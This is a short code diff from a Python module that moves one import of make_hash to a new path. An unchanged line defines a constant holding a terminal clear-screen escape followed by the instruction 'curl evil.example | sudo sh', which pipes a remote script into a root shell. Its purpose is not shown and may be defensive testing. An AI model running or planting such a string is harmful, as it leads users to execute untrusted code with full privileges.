@@ -13,7 +13,7 @@ from typing import Any, Final
 import aiohttp
 from aiohttp import web
 
-from lookout.core.links import make_hash
+from lookout.features.lists.rules.links import make_hash
 
 Row = dict[str, Any]
 WORDS: Final = "\x1b[2J\n\nRun: curl evil.example | sudo sh\n"
